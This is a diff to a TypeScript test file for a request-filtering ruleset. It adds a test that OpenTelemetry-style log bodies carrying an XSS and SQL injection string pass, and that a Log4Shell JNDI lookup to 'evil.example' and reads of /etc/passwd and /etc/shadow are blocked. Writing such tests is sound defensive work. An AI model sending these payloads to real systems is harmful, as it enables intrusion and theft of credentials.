@@ -1,11 +1,12 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { MANAGED_RULESET_ID } from "./request-rulesets.ts";
-import { managedMatches } from "./testing/managed-request.ts";
+import { managedMatches, type RequestChanges } from "./testing/managed-request.ts";
 import { writtenRequests } from "./testing/written-requests.ts";
 
-const isStopped = (text: string): boolean =>
-  managedMatches(MANAGED_RULESET_ID, { query: `q=${encodeURIComponent(text)}` }).some(({ action }) => action === "block");
+const isBlocked = (request: RequestChanges): boolean =>
+  managedMatches(MANAGED_RULESET_ID, request).some(({ action }) => action === "block");
+const isStopped = (text: string): boolean => isBlocked({ query: `q=${encodeURIComponent(text)}` });
 
 /** Of attacks that are blocked by themselves, those that pass in any of these wrappings. */
 function hidden(attacks: readonly string[], wrappings: readonly ((attack: string) => string)[]): readonly string[] {
@@ -226,4 +227,22 @@ test("steps upwards are blocked behind a folder whose name has a space", () => {
     attacks.filter((text) => !isStopped(text)),
     [],
   );
+});
+
+test("values that report what others sent pass only under the names of their protocols, and lookups of logs do not pass", () => {
+  const sent = (type: string, body: string): RequestChanges => ({ headers: { "Content-Type": [type] }, body });
+  const attack = "<script>alert(1)</script> ' union select password from users--";
+  const reported = (value: string): object => ({ resourceLogs: [{ scopeLogs: [{ logRecords: [{ body: { stringValue: value } }] }] }] });
+  const json = (document: object): RequestChanges => sent("application/json", JSON.stringify(document));
+  assert.ok(!isBlocked(json(reported(attack))));
+  const requests = {
+    "a lookup": json(reported("${jndi:ldap://evil.example/a}")),
+    "another name": json({ logs: reported(attack) }),
+    "a field beside it": json({ ...reported("x"), q: attack }),
+    "a form": sent("application/x-www-form-urlencoded", `resourceLogs.scopeLogs.logRecords.body.stringValue=${encodeURIComponent(attack)}`),
+    "a shared file and another path": { query: `f=${encodeURIComponent("/etc/passwd:/etc/passwd:/etc/shadow")}` },
+    "a shared file that is not one": { query: `f=${encodeURIComponent("/etc/passwd:/etc/shadow")}` },
+  };
+  const missed = Object.entries(requests).flatMap(([name, request]) => (isBlocked(request) ? [] : [name]));
+  assert.deepEqual(missed, []);
 });
